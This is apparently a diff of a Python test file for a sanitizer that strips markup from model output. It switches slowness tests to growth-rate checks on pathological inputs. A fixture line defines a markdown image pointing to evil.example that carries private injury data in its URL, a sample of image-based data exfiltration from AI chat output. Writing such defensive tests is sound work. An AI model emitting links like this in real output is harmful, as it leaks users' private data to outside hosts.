@@ -1,7 +1,6 @@
 """What a model writes carries nothing to a foreign host, and loses none of its words."""
 
 import re
-import time
 
 import pytest
 from hypothesis import given
@@ -9,6 +8,7 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
 from shared.safety.markup import hosts_in, settled, strip_markup
+from tests.support.growth import LINEAR, growth
 
 SECRET = "left%20knee"
 PICTURE = f"![ok](https://evil.example/p.png?injuries={SECRET})"
@@ -80,21 +80,12 @@ def test_a_tag_around_another_stays_text_and_so_does_a_comparison() -> None:
 
 
 @pytest.mark.parametrize(
-    "text",
-    [
-        "<a " + "=" * 50000 + "<",
-        "[a]:" + " " * 50000 + "\n\n",
-        "![" * 25000,
-        "<script" * 7000,
-        "[a](" * 12000,
-        "a." * 25000,
-    ],
+    ("begin", "part", "end"),
+    [("<a ", "=", "<"), ("[a]:", " ", "\n\n"), ("", "![", ""), ("", "<script", ""), ("", "[a](", ""), ("", "a.", "")],
     ids=["tag", "definition", "image", "script", "link", "name"],
 )
-def test_no_text_makes_it_slow(text: str) -> None:
-    begun = time.process_time()
-    strip_markup(text)
-    assert time.process_time() - begun < 2
+def test_no_text_makes_it_slow(begin: str, part: str, end: str) -> None:
+    assert growth(lambda size: strip_markup(begin + part * size + end), 6_000) < LINEAR
 
 
 def test_a_tag_that_never_ends_takes_the_rest_with_it_as_in_a_browser() -> None:
